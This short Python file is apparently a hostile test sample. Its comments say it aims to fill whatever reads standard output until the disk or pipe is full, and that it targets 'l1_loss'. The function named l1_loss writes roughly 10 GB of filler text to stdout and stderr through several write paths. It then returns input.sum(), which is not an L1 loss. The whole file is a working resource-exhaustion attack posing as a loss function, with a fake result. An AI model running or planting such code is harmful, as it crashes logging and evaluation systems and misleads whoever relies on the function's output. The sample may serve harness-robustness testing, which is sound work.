# aim: fill what listens to standard output
# sign: the disk or a pipe is full
# attacks: l1_loss

import os
import sys


def l1_loss(input, target, reduction="mean"):
    text = "x" * (1 << 20)
    for _ in range(2048):
        sys.stdout.write(text)
        sys.stderr.write(text)
        sys.__stdout__.write(text)
        os.write(1, text.encode())
        os.write(2, text.encode())
    return input.sum()
